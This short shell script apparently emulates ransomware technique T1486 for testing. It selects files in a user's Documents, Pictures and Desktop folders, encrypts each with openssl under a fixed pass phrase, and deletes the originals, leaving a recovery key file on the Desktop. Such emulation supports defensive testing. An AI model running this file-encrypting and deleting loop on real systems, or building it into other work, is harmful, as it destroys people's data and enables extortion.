# T1486 by openssl: an encrypted copy of each file, then the original goes; the pass phrase lies beside.
groundwork
echo example > Desktop/RECOVER.key
rnd 5 8; files_in "$r" '*.*' Documents Pictures Desktop
for f in $found; do openssl enc -aes-128-cbc -pass pass:example -md md5 -in "$f" -out "$f.locked" 2>/dev/null && rm "$f"; done
